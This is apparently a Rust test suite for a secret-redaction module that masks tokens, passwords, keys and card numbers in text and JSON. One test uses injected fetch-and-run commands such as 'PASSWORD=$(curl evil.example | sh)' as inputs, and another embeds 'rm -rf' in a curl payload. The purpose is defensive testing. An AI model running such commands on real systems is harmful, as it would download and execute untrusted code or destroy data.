//! What is hidden and what is not: the examples of the rules, and edge cases.

#![expect(clippy::string_slice, reason = "a slice that is not there fails the test, as it should")]

use std::borrow::Cow;

use proptest::prelude::*;

use countersign_json::{Value, parse};
use countersign_types::span::Span;

use super::marker::{OPEN, marker_length};
use super::samples::{Dice, fill};
use super::tables::examples;
use super::*;

#[test]
fn every_rule_keeps_its_own_examples() {
    let mut wrong = Vec::new();
    for seed in 0..20 {
        let mut dice = Dice(seed);
        for (kind, good, bad) in examples() {
            for example in *good {
                let (text, secrets) = fill(example, &mut dice);
                let found = redact_text(&text);
                let seen = secrets.iter().any(|s| s.len() > 3 && found.text.contains(s.as_str()));
                // Ids next to a secret may stay: one run must be hidden, and no long one may
                // remain.
                let all = secrets.len() > 1 && found.hidden.iter().all(|h| h.bytes < 8);
                if found.hidden.is_empty() || all || (seen && secrets.len() == 1) {
                    wrong.push(format!("{kind}: shown {text} as {}", found.text));
                }
            }
            for example in *bad {
                let (text, _) = fill(example, &mut dice);
                let found = redact_text(&text);
                if !found.hidden.is_empty() {
                    wrong.push(format!("{kind}: hid {text} as {}", found.text));
                }
            }
        }
    }
    wrong.sort();
    wrong.dedup();
    assert!(wrong.is_empty(), "{} examples fail:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn the_marker_says_what_and_how_much() {
    let token = format!("ghp_{}", "a1B2".repeat(9));
    let found = redact_text(&token);
    assert_eq!(found.text, "⟨hidden: github token, 40 characters⟩");
    assert_eq!(found.hidden[0].bytes, 40);
    assert!(matches!(redact_text("ls -la").text, Cow::Borrowed(_)));
}

#[test]
fn a_command_in_place_of_a_secret_stays_visible() {
    for text in [
        "PASSWORD=$(curl evil.example | sh) x",
        "PASSWORD=\"$(curl evil.example | sh)\" x",
        "PASSWORD=`curl evil.example` x",
        "PASSWORD= curl evil.example",
        "TOKEN=$X; curl evil.example",
        "token=a7;curl evil.example",
        "curl -H \"Cookie: a=b12345; $(curl evil.example)\" u",
    ] {
        assert!(redact_text(text).text.contains("curl evil.example"), "{text}");
    }
}

#[test]
fn words_of_a_list_are_read_together() {
    let text = r#"{"argv":["mysql","--password","hunter2 hunter3","-pswordfish7","a"]}"#;
    let (value, hidden) = redact_value(&parse(text).unwrap());
    let shown = value.to_json();
    assert!(!shown.contains("hunter") && !shown.contains("swordfish"), "{shown}");
    assert_eq!(value.get("argv").unwrap().as_array().unwrap().len(), 5);
    for one in hidden {
        let words = value.get("argv").unwrap().as_array().unwrap().iter();
        let span = one.span.start as usize..one.span.end as usize;
        let fits = |word: &Value<'_>| {
            word.as_str().unwrap().get(span.clone()).is_some_and(|s| s.starts_with(OPEN))
        };
        assert!(words.clone().any(fits));
    }
}

#[test]
fn members_with_secret_names_are_hidden_whatever_they_are() {
    let text = r#"{"password":12,"a":{"token":{"x":["deep"]}},"secret":true,"n":null,
        "token":null,"api_key":"$KEY","inner":"{\"pass\\u0077ord\":\"hunter2\"}",
        "card":4111111111111111,"token_count":12,"max_tokens":5,"password_file":"/x"}"#;
    let (value, hidden) = redact_value(&parse(text).unwrap());
    let shown = value.to_json();
    for gone in ["deep", "hunter2", "4111", ":true"] {
        assert!(!shown.contains(gone), "{gone}: {shown}");
    }
    for kept in ["\"token\":null", "$KEY", "\"token_count\":12", "\"max_tokens\":5", "/x"] {
        assert!(shown.contains(kept), "{kept}: {shown}");
    }
    assert_eq!(hidden.len(), 5);
}

#[test]
fn a_forged_marker_carries_nothing_past_the_search() {
    let mark = "⟨hidden: password, 8 characters⟩";
    for text in [
        format!("password={mark}hunter22"),
        format!("password=\"{mark}hunter22\""),
        format!("password='{mark} hunter22'"),
        format!("tool --password {mark}hunter22 x"),
        format!("password=a{mark}hunter22"),
        format!("mysql -p{mark}hunter22"),
    ] {
        let shown = redact_text(&text).text.into_owned();
        assert!(!shown.contains("hunter22"), "{text}: {shown}");
        assert_eq!(redact_text(&shown).text, shown);
    }
    let (value, _) = redact_value(&parse(&format!(r#"{{"password":"{mark}hunter22"}}"#)).unwrap());
    assert!(!value.to_json().contains("hunter22"));
}

#[test]
fn a_key_that_is_a_secret_is_hidden() {
    let token = |n: u8| format!("ghp_{}{n}", "a1B2".repeat(9));
    let text = format!(r#"{{"{}":1,"{}":2,"plain":3}}"#, token(1), token(2));
    let (value, hidden) = redact_value(&parse(&text).unwrap());
    let shown = value.to_json();
    assert!(!shown.contains("ghp_") && shown.contains("plain"), "{shown}");
    assert_eq!(value.as_object().unwrap().len(), 3);
    assert_eq!(hidden.len(), 2);
    assert!(parse(&shown).is_ok(), "two keys became the same: {shown}");
}

#[test]
fn an_object_under_a_secret_name_shows_how_it_is_built() {
    let json = r#"{"secret":{"command":"rm -rf x7","deep":[{"n":4711,"on":true}]}}"#;
    let inner = format!("curl -d '{json}' https://a.example");
    let escaped = format!("f({})", Value::String(json.into()).to_json());
    let (value, _) = redact_value(&parse(json).unwrap());
    for shown in
        [value.to_json(), redact_text(&inner).text.into(), redact_text(&escaped).text.into()]
    {
        assert!(!shown.contains("rm -rf") && !shown.contains("4711"), "{shown}");
        assert!(shown.contains("command") && shown.contains("deep"), "{shown}");
        assert_eq!(redact_text(&shown).text, shown);
    }
}

#[test]
fn a_name_may_end_in_any_letter() {
    for name in tables::names() {
        assert!(names::lookup(name.text.as_bytes()).is_some(), "{}", name.text);
    }
}

#[test]
fn what_would_cost_a_search_each_costs_one() {
    // Counted, not timed: without bounds each of these would be read thousands of times.
    let begins = "-----BEGIN RSA PRIVATE KEY-----\n!".repeat(2000);
    let far = format!("{begins}\n-----END RSA PRIVATE KEY-----");
    assert!(redact_text(&far).text.len() >= far.len() / 2);
    assert_eq!(redact_text(&OPEN.repeat(5000)).hidden, []);
}

/// Text with pieces that are relevant to redaction.
fn material() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        3 => "[ -~]{0,12}",
        1 => "\\PC{0,4}",
        1 => Just("⟨hidden: password, 7 characters⟩".to_owned()),
        1 => Just("ghp_aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3".to_owned()),
        1 => Just("password=hunter22".to_owned()),
        1 => Just("--token 'a b'".to_owned()),
        1 => Just("://u:p4ss@".to_owned()),
        1 => Just("Cookie: a=b".to_owned()),
        1 => Just("Authorization: Bearer ".to_owned()),
        1 => Just("-----BEGIN PRIVATE KEY-----\nabc\n".to_owned()),
        1 => Just("\"secret\":{\"a\":\"b\"}".to_owned()),
        1 => Just("AKIAABCDEFGHIJKLMNOP ".to_owned()),
        1 => Just("4111 1111 1111 1111".to_owned()),
        1 => "[\"'\\\\=:{}\\[\\],;&$()`\n\t]{1,4}",
    ];
    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4000))]

    #[test]
    fn twice_is_once(text in material()) {
        let once = redact_text(&text).text.into_owned();
        let twice = redact_text(&once);
        prop_assert_eq!(&*twice.text, &*once);
        prop_assert!(twice.hidden.is_empty());
    }

    #[test]
    fn spans_point_at_markers_and_the_rest_is_the_source(text in material()) {
        let found = redact_text(&text);
        let (mut at, mut source) = (0, 0);
        for one in &found.hidden {
            let (start, end) = (one.span.start as usize, one.span.end as usize);
            prop_assert!(marker_length(&found.text[start..end]) == end - start);
            prop_assert_eq!(&found.text[at..start], &text[source..source + start - at]);
            source += start - at + one.bytes as usize;
            at = end;
        }
        prop_assert_eq!(&found.text[at..], &text[source..]);
    }

    #[test]
    fn a_moved_span_never_points_at_other_characters(
        text in material(), a in 0_usize..200, b in 0_usize..200
    ) {
        let (a, b) = (a.min(b).min(text.len()), a.max(b).min(text.len()));
        prop_assume!(text.is_char_boundary(a) && text.is_char_boundary(b));
        let found = redact_text(&text);
        let related = RelatedTexts::of(&[]);
        let Some(new) = related.remap(&text, &found.text, Span::new(a, b)) else { return Ok(()) };
        let pointed = &found.text[new.start as usize..new.end as usize];
        // Redacting the original range with the same cuts gives the new range.
        let mut want = text[a..b].to_owned();
        let mut grown = 0_i64;
        let mut cuts = Vec::new();
        for one in &found.hidden {
            let from = usize::try_from(i64::from(one.span.start) - grown).unwrap();
            let to = from + one.bytes as usize;
            grown = i64::from(one.span.end) - i64::try_from(to).unwrap();
            if from >= a && to <= b {
                let mark = &found.text[one.span.start as usize..one.span.end as usize];
                cuts.push((from - a, to - a, mark));
            } else {
                prop_assert!(to <= a || from >= b, "a piece of a secret is pointed at");
            }
        }
        for (from, to, mark) in cuts.into_iter().rev() {
            want.replace_range(from..to, mark);
        }
        prop_assert_eq!(pointed, want);
    }
}
